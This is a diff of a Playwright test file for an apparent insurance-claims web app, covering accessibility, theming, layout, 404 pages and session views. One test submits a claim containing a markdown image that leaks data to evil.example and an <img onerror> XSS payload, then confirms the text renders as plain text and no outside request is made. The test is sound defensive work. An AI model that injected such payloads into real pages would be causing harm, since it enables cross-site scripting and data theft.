@@ -1,78 +1,115 @@
 import AxeBuilder from "@axe-core/playwright";
-import { expect, fileClaim, type Role, referenceOf, test } from "./people";
+import { type APIRequestContext, expect, type Page } from "@playwright/test";
+import { fileClaim, type Person, referenceOf, reviewOf, tellClaim, test } from "./people";
 
 const widths = { "a desk": { width: 1440, height: 900 }, "a phone": { width: 390, height: 844 } };
+const nobody = "00000000-0000-4000-8000-000000000000";
 
-for (const [name, viewport] of Object.entries(widths)) {
-  test(`every page is accessible, in light and dark, and fits on ${name}`, async ({
-    as,
-    request,
-    browser,
-    baseURL,
-  }) => {
-    test.slow();
-    const sessionId = await fileClaim(request, "My balcony door shattered in the storm, the glazier wants $1,900");
-    const reference = await referenceOf(request, sessionId);
-    const own = await request.get("/api/v1/reviews?status=open", {
-      headers: { authorization: "Bearer demo-reviewer-key" },
+/** What each role sees: the addresses of its pages, of things that exist for this test. */
+const pages: Partial<Record<Person, (request: APIRequestContext) => Promise<string[]>>> = {
+  async claimant(request) {
+    const claim = await tellClaim(request, "Somebody scratched my car, the garage says $410", "claimant");
+    return ["/claims", `/claims/${claim}`, `/claims/${nobody}`, "/inbox"];
+  },
+  async reviewer(request) {
+    const review = await reviewOf(request, await fileClaim(request, "The balcony door shattered, glazier: $1,900"));
+    return ["/inbox", `/inbox/${review.id}`, "/inbox?tab=decided", "/inbox?q=nothing-like-this"];
+  },
+  async designer(request) {
+    const session = await fileClaim(request, "Storm, my flat's window is broken, $1,200");
+    return ["/workflows", "/workflows/insurance-claims", `/workflows/insurance-claims?session=${session}`];
+  },
+  async admin(request) {
+    const session = await fileClaim(request, "The hail dented my car's roof, $2,200");
+    return ["/sessions", `/sessions/${session}`, `/sessions?search=${await referenceOf(request, session)}`];
+  },
+};
+
+for (const [place, viewport] of Object.entries(widths)) {
+  for (const [person, pathsOf] of Object.entries(pages) as [Person, (typeof pages)[Person] & object][]) {
+    test(`the pages of the ${person} are accessible, in light and dark, and fit on ${place}`, async ({
+      as,
+      request,
+    }) => {
+      const page = await as(person, { viewport });
+      for (const path of await pathsOf(request)) await check(page, path);
     });
-    const { reviews } = await own.json();
-    const waitId = reviews.find((one: { session_id: string }) => one.session_id === sessionId).id;
-    const started = await request.post("/execute", {
-      headers: { authorization: "Bearer demo-claimant-key" },
-      data: { content: "Somebody scratched my car, the garage says $410" },
-    });
-    const claim = (await started.json()).session_id;
-    const pages: [Role, string[]][] = [
-      ["claimant", ["/claims", `/claims/${claim}`, "/claims/00000000-0000-4000-8000-000000000000", "/inbox"]],
-      ["reviewer", ["/inbox", `/inbox/${waitId}`, "/inbox?tab=decided", `/inbox?q=nothing-like-this`]],
-      ["designer", ["/workflows", `/workflows/insurance-claims?session=${sessionId}`]],
-      ["admin", ["/sessions", `/sessions/${sessionId}`, `/sessions?q=${reference}`]],
-    ];
-    const check = async (page: import("@playwright/test").Page, path: string) => {
-      await page.goto(path);
-      await page.getByRole("heading", { level: 1 }).first().waitFor();
-      for (const colorScheme of ["light", "dark"] as const) {
-        await page.emulateMedia({ colorScheme, reducedMotion: "reduce" });
-        await expect(page.locator("html")).toHaveAttribute("data-theme", colorScheme);
-        const { violations } = await new AxeBuilder({ page }).analyze();
-        const found = violations.map(
-          ({ id, nodes }) => `${path} in ${colorScheme}: ${id} ${nodes.map((node) => node.target).join(" ")}`,
-        );
-        expect(found).toEqual([]);
-      }
-      const overflow = await page.evaluate(
-        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
-      );
-      expect(overflow, `${path} scrolls sideways`).toBeLessThanOrEqual(0);
-    };
-    const visitor = await browser.newContext({ baseURL, viewport });
+  }
+
+  test(`the sign-in page is accessible, in light and dark, and fits on ${place}`, async ({ browser }) => {
+    const visitor = await browser.newContext({ viewport });
     await check(await visitor.newPage(), "/sign-in");
     await visitor.close();
-    for (const [role, paths] of pages) {
-      const page = await as(role, { viewport });
-      for (const path of paths) await check(page, path);
+  });
+}
+
+async function check(page: Page, path: string): Promise<void> {
+  await page.goto(path);
+  await expect(page.getByRole("heading", { level: 1 })).toHaveCount(1);
+  for (const colorScheme of ["light", "dark"] as const) {
+    await page.emulateMedia({ colorScheme });
+    await expect(page.locator("html")).toHaveAttribute("data-theme", colorScheme);
+    const axe = new AxeBuilder({ page });
+    // Dark differs in its colours and in nothing else.
+    const { violations } = await (colorScheme === "dark"
+      ? axe.withRules(["color-contrast", "link-in-text-block"])
+      : axe
+    ).analyze();
+    const found = violations.map(
+      ({ id, nodes }) => `${path} in ${colorScheme}: ${id} ${nodes.map((node) => node.target).join(" ")}`,
+    );
+    expect(found).toEqual([]);
+  }
+  const overflow = await page.evaluate(
+    () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
+  );
+  expect(overflow, `${path} scrolls sideways`).toBeLessThanOrEqual(0);
+}
+
+const nowhere: Partial<Record<Person, string[]>> = {
+  claimant: ["/claims/nope"],
+  reviewer: ["/inbox/nope", `/inbox/${nobody}`],
+  designer: ["/workflows/nope", ...["nope", nobody].map((id) => `/workflows/insurance-claims?session=${id}`)],
+  admin: ["/sessions/nope", `/sessions/${nobody}`],
+};
+
+for (const [person, paths] of Object.entries(nowhere) as [Person, string[]][]) {
+  test(`the ${person} is told what does not exist`, async ({ as }) => {
+    const page = await as(person);
+    for (const path of paths) {
+      expect((await page.goto(path))?.status(), path).toBe(404);
+      await expect(page.getByRole("heading", { level: 1, name: "There is nothing here" })).toBeVisible();
     }
   });
 }
 
+test("the steps of a session say what each did without being opened", async ({ as, request }) => {
+  const sessionId = await fileClaim(request, "A cyclist hit my parked car, the repair costs $1,150");
+  const page = await as("admin");
+  await page.goto(`/sessions/${sessionId}`);
+  const steps = page.getByRole("list", { name: "Steps" });
+  await expect(steps.getByText("Waiting for manual approval")).toBeVisible();
+  await expect(steps.getByText("Checking the claim against the rules")).toBeVisible();
+});
+
 test("words from claimants are shown as text, and no request leaves the page", async ({ as, request }) => {
-  const sessionId = await fileClaim(
-    request,
-    "Fire in my kitchen, $9,000 ![x](https://evil.example/?d=1) <img src=https://evil.example/a onerror=alert(1)>",
-    "demo-claimant-key",
-  );
-  for (const [role, path] of [
-    ["claimant", `/claims/${sessionId}`],
-    ["admin", `/sessions/${sessionId}`],
+  const text =
+    "Fire in my kitchen, $9,000 ![x](https://evil.example/?d=1) <img src=https://evil.example/a onerror=alert(1)>";
+  const sessionId = await fileClaim(request, text, "claimant");
+  const review = await reviewOf(request, sessionId);
+  for (const [person, path, place] of [
+    ["claimant", `/claims/${sessionId}`, "Conversation"],
+    ["reviewer", `/inbox/${review.id}`, "Conversation"],
+    ["admin", `/sessions/${sessionId}`, "Transcript"],
   ] as const) {
-    const page = await as(role);
+    const page = await as(person);
     const outside: string[] = [];
     page.on("request", (sent) => {
       if (sent.url().includes("evil.example")) outside.push(sent.url());
     });
     await page.goto(path);
-    await expect(page.getByText("<img src=https://evil.example/a onerror=alert(1)>").first()).toBeVisible();
+    const role = place === "Transcript" ? "region" : "log";
+    await expect(page.getByRole(role, { name: place }).getByText(text).first()).toBeVisible();
     expect(outside).toEqual([]);
   }
 });
